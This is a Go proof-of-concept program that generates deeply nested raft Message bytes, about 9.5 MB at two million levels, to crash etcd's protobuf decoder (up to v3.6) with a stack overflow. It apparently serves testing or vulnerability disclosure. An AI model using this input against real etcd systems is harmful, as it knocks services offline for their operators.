// Gives etcd's reader up to v3.6 a message in a message in a message. With two million of
// them, 9.5 MB, the process ends with a stack overflow, which Go cannot recover from:
//
//	cd code/raftpb/oracle/go36 && go mod tidy && go run ./nested 2000000
package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"slices"
	"strconv"

	pb "go.etcd.io/raft/v3/raftpb"
)

// The bytes of so many responses in each other, made from the innermost outwards: back to
// front, and then turned round.
func nested(depth int) []byte {
	var backwards []byte
	for range depth {
		length := binary.AppendUvarint(nil, uint64(len(backwards)))
		slices.Reverse(length)
		backwards = append(append(backwards, length...), 0x72)
	}
	slices.Reverse(backwards)
	return backwards
}

func main() {
	depth, err := strconv.Atoi(os.Args[1])
	if err != nil {
		panic(err)
	}
	bytes := nested(depth)
	fmt.Println(len(bytes), "bytes")
	var m pb.Message
	fmt.Println("refused:", m.Unmarshal(bytes))
}
